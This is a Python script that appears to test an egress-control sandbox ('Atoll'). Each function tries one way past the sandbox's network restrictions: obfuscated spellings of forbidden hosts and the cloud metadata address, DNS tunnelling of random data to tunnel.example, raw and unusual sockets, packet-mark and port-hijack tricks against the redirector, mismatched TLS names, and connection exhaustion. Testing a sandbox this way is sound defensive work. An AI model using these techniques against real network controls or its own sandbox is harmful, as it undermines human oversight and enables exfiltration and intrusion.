"""Ways to reach what no rule allows. Argument: a way. Whether one works is seen from
outside; what it prints is for people."""
import ctypes, os, socket, ssl, struct, sys, threading, time, unicodedata

FORBIDDEN = ["93.184.216.35", "10.1.2.3", "169.254.169.254"]


def asking(host):
    """A request that is for this host by all its names."""
    return f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


DATA = asking(FORBIDDEN[0])


def quietly(work, *arguments):
    try:
        return work(*arguments)
    except (OSError, ValueError, TypeError) as error:
        return error


def speak(connection, data=DATA):
    connection.settimeout(3)
    connection.sendall(data)
    return connection.recv(4096)


def visit(host, port=80, data=None):
    with socket.create_connection((host, port), 3) as connection:
        return speak(connection, data or asking(host))


def spellings_of_a_name(name):
    """The same name for somebody, or a name that begins or ends like one that is allowed."""
    yield from (name, name + ".", name.upper(), name.title(), name + "..", "." + name, " " + name, name + " ")
    for mark in "\0\r\n\t %#@/\\:?&;,|\"'<>[]{}()!$*+=`~^_":
        yield name + mark + "example.com"
        yield name + mark + ".example.com"
        yield "example.com" + mark + name
        yield "example.com" + mark + "." + name
        yield mark + name
        yield name + mark
    for written in ("%00", "%2e", "%0d%0a", "\\0", "\\.", "\\046", "%23", "%40", "%5c"):
        yield name + written + "example.com"
        yield "example.com" + written + name
        yield name.replace(".", written)
    for dot in "\u3002\uff0e\uff61\u2024\u00b7":
        yield name.replace(".", dot)
        yield name + dot + "example.com"
        yield "example.com" + dot + name
    wide = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in name)
    yield from (wide, unicodedata.normalize("NFKD", wide), name.replace("o", "\u043e"), name.replace("e", "\u0435"))
    yield from (name.replace("t", "\u200dt"), name.replace("t", "t\u00ad"), "xn--" + name, "xn--other-.example")
    yield from ("example.com@" + name, name + "@example.com", "user:example.com@" + name, "[" + name + "]")
    yield from ("example.com:80." + name, name + ":80", name + ":80:example.com", "//" + name, "http://" + name)
    yield from ("www." + name, "example.com." + name, "a" * 63 + "." + name, ("a" * 60 + ".") * 4 + name)


def spellings_of_an_address(text):
    parts = [int(part) for part in text.split(".")]
    number = int.from_bytes(bytes(parts), "big")
    for form in ("%d", "0x%x", "0X%X", "0%o", "00%o", "0x0%x"):
        yield ".".join(form % part for part in parts)
        yield form % number
        yield form % parts[0] + "." + form % (number & 0xFFFFFF)
        yield form % parts[0] + "." + form % parts[1] + "." + form % (number & 0xFFFF)
        yield "%d." % parts[0] + ".".join(form % part for part in parts[1:])
    tail = "%x:%x" % (number >> 16, number & 0xFFFF)
    for prefix in ("::ffff:", "::", "64:ff9b::", "64:ff9b:1::", "2002:", "::ffff:0:", "fe80::5efe:", "2001:0:"):
        yield prefix + text
        yield prefix + tail
        yield "[" + prefix + text + "]"
    yield "2002:%s::1" % tail
    yield "2001:0:%s::%x:%x" % (tail, (number >> 16) ^ 0xFFFF, (number & 0xFFFF) ^ 0xFFFF)
    yield from (text + ".", text + "%lo", text + ":80", text + "/32", text + "%00", " " + text, text + "\0example.com")
    yield text + ".nip.io"
    yield ".".join(str(part) for part in reversed(parts)) + ".in-addr.arpa"
    yield from ("".join(chr(0xFF10 + int(c)) if c.isdigit() else "\uff0e" for c in text), text.replace(".", "\u3002"))


def spellings():
    forms = [(form, "other.example") for form in spellings_of_a_name("other.example")]
    for address in FORBIDDEN:
        forms += [(form, address) for form in spellings_of_an_address(address)]
    own = ["0", "0.0.0.0", "::", "127.1", "localhost", "ip6-localhost", "127.0.0.2", "::1", "::ffff:0:0"]
    forms += [(form, form) for form in own]
    for form, plain in forms:
        quietly(visit, form, 80, asking(plain))
    print(len(forms), "spellings")


def ask(labels, kind=1, server="9.9.9.9", over="udp"):
    body = b"".join(bytes([len(label) & 0x3F]) + label for label in labels)
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + body + b"\0" + struct.pack(">HH", kind, 1)
    if over == "tcp":
        with socket.create_connection((server, 53), 1) as connection:
            connection.settimeout(0.3)
            connection.sendall(struct.pack(">H", len(question)) + question)
            return connection.recv(512)
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.05)
        asking.sendto(question, (server, 53))
        return asking.recv(512)


def labels():
    """Names as no library would write them: dots, ends and pointers within labels."""
    odd = [b"other.example", b"other\0", b"other.example\0", b"other\\", b"other.example.", b"\xff\xfe", b"oth%65r"]
    for label in odd:
        for tail in ([], [b"com"], [b"example", b"com"], [b"", b"example", b"com"], [b"x" * 63] * 4):
            for kind in (1, 28, 255):
                quietly(ask, [label, *tail], kind)
    quietly(ask, [b"other", b"example"])
    for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 255):
        quietly(ask, [b"other", b"example"], kind)


def tunnel():
    """What dns2tcp, iodine and dnscat do: data in names, answers of every type, to any server."""
    for number in range(60):
        data = os.urandom(20).hex().encode()
        for server in ("9.9.9.9", "93.184.216.34", "198.18.0.1", "127.0.0.53", "2606:2800:220:1::1"):
            kind = (10, 16, 5, 1, 28, 15, 33, 65)[number % 8]
            quietly(ask, [data, b"t", b"tunnel", b"example"], kind, server)
        if number % 6 == 0:
            quietly(ask, [data, b"t", b"tunnel", b"example"], 16, "9.9.9.9", "tcp")
            quietly(socket.getaddrinfo, data.decode() + ".t.tunnel.example", 80)


def turns():
    for _ in range(16):
        quietly(visit, "turns.example")


def datagrams():
    for family, to in ((socket.AF_INET, "93.184.216.34"), (socket.AF_INET6, "2606:2800:220:1::1")):
        for port in (123, 443, 53, 5353):
            one = socket.socket(family, socket.SOCK_DGRAM)
            quietly(one.sendto, b"evil", (to, port))
            quietly(one.connect, (to, port))
            quietly(one.send, b"evil")


def rare():
    """Sockets that are not of TCP, or begin otherwise than by connecting."""
    to = ("93.184.216.35", 80)
    for kind, protocol in ((socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132)):
        one = quietly(socket.socket, socket.AF_INET, kind, protocol)
        if isinstance(one, socket.socket):
            quietly(one.connect, to)
            quietly(speak, one)
    one = socket.socket()
    quietly(one.sendto, DATA, 0x20000000, to)
    quietly(speak, one, b"")
    for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255), (socket.SOCK_DGRAM, 136)):
        one = quietly(socket.socket, socket.AF_INET, kind, protocol)
        if isinstance(one, socket.socket):
            quietly(one.sendto, b"\x08\0" + b"evil" * 8, to)
    for family in (socket.AF_PACKET, socket.AF_NETLINK, 40, 38, 29, 21, 1):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            one = quietly(socket.socket, family, kind)
            if isinstance(one, socket.socket):
                quietly(one.connect, (2, 80) if family == 40 else ("lo", 0x0800) if family == socket.AF_PACKET else "\0atoll")
                quietly(one.send, b"evil")


def own_doors():
    """What Atoll listens on inside, and what can be had of it."""
    for address in ("127.0.0.1", "0.0.0.0", "::1", "127.9.9.9", "93.184.216.35", "198.18.0.1"):
        for port in (15001, 15000, 15002, 53, 80, 1080, 3128, 8080):
            quietly(visit, address, port, b"CONNECT other.example:80 HTTP/1.1\r\nHost: other.example:80\r\n\r\n")
            quietly(visit, address, port, b"\x05\x01\x00\x05\x01\x00\x01\x5d\xb8\xd8\x23\x00\x50" + DATA)
    whole = b"GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n"
    quietly(visit, "proxy.atoll.internal", 3128, whole)
    # A port that the redirection leads to, taken by the program.
    for family, any_address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        one = socket.socket(family, socket.SOCK_STREAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        print("taken" if quietly(one.bind, (any_address, 15001)) is None else "kept")


def marks():
    """Options by which a packet is taken for another, or leaves by another way."""
    to = ("93.184.216.35", 80)
    options = [(socket.SOL_SOCKET, 36, struct.pack("i", mark)) for mark in (1, 2, 15001, 0x1EE7, -1)]
    options += [(socket.SOL_SOCKET, 25, b"lo\0"), (socket.SOL_IP, 19, b"\1\0\0\0"), (socket.SOL_SOCKET, 5, b"\1\0\0\0")]
    options += [(socket.SOL_IP, 4, b"\x83\x07\x04\x5d\xb8\xd8\x23\0"), (socket.SOL_SOCKET, 12, b"\7\0\0\0"), (socket.SOL_IP, 15, b"\1\0\0\0")]
    for option in options:
        for source in (None, "127.0.0.1", "93.184.216.35", "198.18.0.1", "10.1.2.3"):
            one = socket.socket()
            quietly(one.setsockopt, *option)
            if source:
                quietly(one.bind, (source, 0))
            if quietly(one.connect, to) is None:
                quietly(speak, one)
            one.close()


def other_names_of_a_connection():
    """A connection to one name, in which another is asked for."""
    for name in ("other.example", "other.example.", "OTHER.example", "example.com.other.example"):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        raw = quietly(socket.create_connection, ("example.com", 443), 3)
        if isinstance(raw, socket.socket):
            quietly(lambda raw=raw, name=name: context.wrap_socket(raw, server_hostname=name))


def connections():
    """As many connections as there can be, held until the input ends."""
    held, over = [], threading.Event()

    def take():
        while not over.is_set():
            one = socket.socket()
            one.settimeout(2)
            if quietly(one.connect, ("example.com", 7)) is None:
                held.append(one)
            elif len(held) >= 900:
                print("these are all", flush=True)
                return
            else:
                one.close()

    threads = [threading.Thread(target=take) for _ in range(16)]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join()
    print("held", len(held))


{name: work for name, work in globals().items() if callable(work)}[sys.argv[1].replace("-", "_")]()
